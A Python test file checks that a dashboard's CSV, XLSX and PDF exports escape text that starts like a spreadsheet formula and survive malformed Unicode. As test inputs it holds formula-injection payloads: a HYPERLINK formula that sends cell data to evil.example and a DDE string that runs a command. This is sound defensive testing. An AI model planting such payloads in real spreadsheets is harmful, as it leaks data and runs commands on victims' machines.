"""Finding 7 of issue 14: no export carries a formula, and any Unicode survives every format.

An area named ``=HYPERLINK(…)`` (from a raw file or a user's saved area) must reach a CSV as text
(OWASP: prefixed with ``'``) and an XLSX as a text cell, never a formula; negative numbers stay
numbers; a lone surrogate in a name (a browser's broken UTF-16) does not break the PDF.
"""

from __future__ import annotations

import csv
import dataclasses
import io

import pandas as pd
import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from dashboard.data.user_store import UserArea, area_to_csv
from dashboard.exports.pdf import profile_pdf
from dashboard.exports.tables import profile_csv, profile_xlsx
from dashboard.logic.quick_profile import table_csv
from dashboard.logic.tables import to_csv, to_xlsx
from dashboard.safe_cells import clean_text, csv_cell, starts_like_formula
from tests.unit.exports.test_exports_renderers import _profile

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click for details")'
LONE = "Glen \ud800Test"


@pytest.mark.parametrize("text", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"])
def test_text_that_starts_like_a_formula_is_quoted(text: str) -> None:
    assert starts_like_formula(text) and csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "-1.25", "+3", "-1.5e3", -5, -5.5, "Dunfermline", "S12000047", " =x"])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert csv_cell(value) == value


def test_lone_surrogates_become_the_replacement_character() -> None:
    assert clean_text(LONE) == "Glen \ufffdTest"
    assert clean_text("\ud83d\ude00") == "\U0001f600"  # a valid pair is one character


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _named(name: str) -> object:
    """The hand-made profile with the area (and its series rows) named ``name``."""
    profile = _profile()
    indicator = profile.indicators[0]
    series = tuple(dataclasses.replace(p, area_name=name) if p.role == "area" else p for p in indicator.series)
    return dataclasses.replace(profile, area_name=name,
                               indicators=(dataclasses.replace(indicator, series=series),))


def test_profile_csv_and_xlsx_carry_no_formula() -> None:
    data = _named(EVIL)
    assert "'" + EVIL in _csv_cells(profile_csv(data))
    wb = load_workbook(io.BytesIO(profile_xlsx(data)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]
    named = [c for c in cells if c.value == EVIL]
    assert named and all(c.data_type == "s" and c.quotePrefix for c in named)


def test_table_downloads_escape_text_and_keep_negative_numbers() -> None:
    # (object dtype: pandas' own string dtype cannot even hold a lone surrogate)
    frame = pd.DataFrame({"area_name": pd.Series([EVIL, LONE, "Fife"], dtype=object), "value": [-5.0, 1.5, -0.25], "change": ["-5", "+x", "0"]})
    cells = _csv_cells(to_csv(frame))
    assert "'" + EVIL in cells and "Glen \ufffdTest" in cells and "-5.0" in cells and "-5" in cells and "'+x" in cells
    wb = load_workbook(io.BytesIO(to_xlsx(frame, note="fictional")))
    ws = wb.active
    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert [c.value for c in ws["A"]][2:] == [EVIL, "Glen \ufffdTest", "Fife"]
    assert [c.value for c in ws["B"]][2:] == [-5, 1.5, -0.25]  # numbers stay numbers


def test_saved_area_and_quick_profile_csvs_are_escaped() -> None:
    area = UserArea("a1", EVIL, ("S01006506",), "2026-01-01", "2026-01-01")
    assert "'" + EVIL in _csv_cells(area_to_csv(area))
    cells = _csv_cells(table_csv([], EVIL))
    assert cells[0] == "Quick profile: " + EVIL  # not at the start of the cell: harmless as it is
    cells = _csv_cells(table_csv([], LONE, demo="@demo"))
    assert cells[0] == "'@demo" and cells[1] == "Quick profile: Glen \ufffdTest"


def test_pdf_takes_a_name_with_a_lone_surrogate() -> None:
    data = _named(LONE)
    text = "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(profile_pdf(data))).pages)
    assert "Glen" in text and "Test" in text
